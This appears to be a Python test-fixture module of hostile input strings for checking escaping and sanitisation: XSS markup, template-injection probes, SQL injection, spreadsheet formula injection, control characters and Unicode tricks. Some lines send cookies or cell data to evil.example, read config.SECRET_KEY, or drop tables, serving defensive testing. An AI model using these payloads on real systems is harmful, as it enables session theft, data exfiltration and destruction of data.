"""Hostile and odd strings for input tests: markup, scripts, template syntax,
SQL, control characters, very long text, right-to-left text, emoji, combining marks."""

from __future__ import annotations

#: ``{{12345*6789}}`` would render this if any template evaluated user text.
TEMPLATE_MARKER = str(12345 * 6789)

_MARKUP = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>document.location='//evil.example/?c='+document.cookie</script>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</option></select><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<body onload=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<iframe src=javascript:alert(1)></iframe>",
    '<a href="javascript:alert(1)">click</a>',
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<style>body{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "expression(alert(1))",
    "x;}</style><script>alert(1)</script>",
    '<input autofocus onfocus="alert(1)">',
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    '<meta http-equiv="refresh" content="0;url=//evil.example">',
    '<base href="//evil.example/">',
    '<form action="//evil.example"><button>go</button></form>',
    '<div hx-get="/logout" hx-trigger="load">x</div>',
    '<div hx-on:click="alert(1)">x</div>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    "<<script>script>alert(1)<</script>/script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '<a href="#" title=\'"><b>bold</b>\'>x</a>',
    "<b>bold</b> & <i>italic</i> & <u>under</u>",
    "Tom & Jerry <3 'quotes' \"double\"",
    "a < b > c",
    "</div></article></main>",
    "<plaintext>",
    "<xmp><script>alert(1)</script></xmp>",
]

_TEMPLATE = [
    "{{12345*6789}}",
    "{{ 12345*6789 }}",
    "${12345*6789}",
    "#{12345*6789}",
    "<%= 12345*6789 %>",
    "{% raw %}{{12345*6789}}{% endraw %}",
    "{{ config }}",
    "{{ config.SECRET_KEY }}",
    "{{ request.environ }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}{{x}}{% endfor %}",
    "{# comment #}",
    "{{ self._TemplateReference__context }}",
    "%(secret)s %s %d {0} {name}",
]

_SQL = [
    "'; DROP TABLE workshop; --",
    '"; DROP TABLE participant; --',
    "' OR '1'='1",
    "1' OR 1=1 --",
    "admin'--",
    "1; SELECT pg_sleep(0)",
    "' UNION SELECT token FROM participant --",
    "%' AND 1=0 UNION SELECT NULL --",
    "\\'; --",
    "Robert'); DROP TABLE example;--",
]

# Spreadsheet formula injection (CSV exports must neutralise these).
_FORMULA = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
]

_CONTROL = [
    "null\x00byte",
    "\x00",
    "\x00<script>alert(1)</script>",
    "bell\x07 backspace\x08 escape\x1b[31m red",
    "tab\tnewline\ncarriage\rreturn",
    "\r\n\r\n",
    "form\x0cfeed vertical\x0btab",
    "del\x7f",
    "\u200b\u200c\u200d zero width",
    "\ufeffBOM at start",
    "line\u2028separator\u2029paragraph",
    "   ",
    "",
    "\u00a0\u00a0non-breaking",
    "\ud7ff edge of BMP",
]

_UNICODE = [
    "مرحبا بالعالم",
    "שלום עולם",
    "\u202egnp.exe",
    "abc\u202edef\u202cghi",
    "\u200fRTL mark\u200e",
    "😀🎉👩‍👩‍👧‍👦🏳️‍🌈",
    "🇬🇧🇫🇷 flags",
    "Z̴̧̛̛̖͉͓̥̼͔͆̆͑̉̂̓a̶̡̠̣͎͈̤̐̂l̴̢̡̛͎̓g̷̨̣̞̈́o̸͍̿",
    "e\u0301\u0301\u0301\u0301\u0301 combining",
    "Ｆｕｌｌｗｉｄｔｈ",
    "日本語のテキスト",
    "Ελληνικά",
    "𝕳𝖔𝖘𝖙𝖎𝖑𝖊",
    "İıŞş Türkçe",
    "ß → SS",
]

_LONG = [
    "x" * 10_000,
    "<script>" * 1_250,
    "é" * 10_000,
    "😀" * 10_000,
    "word " * 2_000,
    "a" * 201,
    "line\n" * 2_000,
    "<" * 10_000,
]

HOSTILE: list[str] = _MARKUP + _TEMPLATE + _SQL + _FORMULA + _CONTROL + _UNICODE + _LONG

#: Characters HTML escaping changes: a payload holding one must never appear raw.
SPECIAL = set("<>&\"'")


def needs_escaping(text: str) -> bool:
    return any(ch in SPECIAL for ch in text)
